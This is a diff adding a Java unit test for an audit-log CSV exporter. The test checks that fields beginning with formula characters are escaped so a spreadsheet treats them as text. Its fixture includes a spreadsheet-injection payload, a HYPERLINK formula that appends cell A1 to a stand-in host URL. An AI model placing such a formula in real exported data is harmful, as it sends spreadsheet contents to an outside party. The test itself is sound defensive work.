@@ -357,6 +357,32 @@ class AuditExportTest {
     }
 
     @Test
+    void csvFieldsThatASpreadsheetWouldRunAsAFormulaAreWrittenAsText() {
+        var hostile = new AuditRecord(
+                Instant.parse("2026-11-23T10:00:00Z"),
+                "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")",
+                "deploy.requested",
+                "7",
+                "checkout",
+                "1.4.1",
+                "accepted",
+                "{\"lock_reason\":\"=1+1\"}",
+                "@evil",
+                "-2+3");
+        var out = new StringWriter();
+        AuditExport.csvEntry(out, AuditChain.link(0, AuditChain.GENESIS, hostile));
+
+        var row = out.toString();
+        assertThat(row).contains(",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\",");
+        assertThat(row).contains(",'@evil,'-2+3,");
+        // a value that only contains a formula character further in is written as stored
+        assertThat(row).contains(",\"{\"\"lock_reason\"\":\"\"=1+1\"\"}\",");
+        assertThat(AuditExport.spreadsheetSafe("\tcmd")).isEqualTo("'\tcmd");
+        assertThat(AuditExport.spreadsheetSafe("U0ENGINEER")).isEqualTo("U0ENGINEER");
+        assertThat(AuditExport.spreadsheetSafe("")).isEmpty();
+    }
+
+    @Test
     void csvQuotesFieldsThatNeedIt() {
         var out = new StringWriter();
         AuditExport.csvHeader(out);
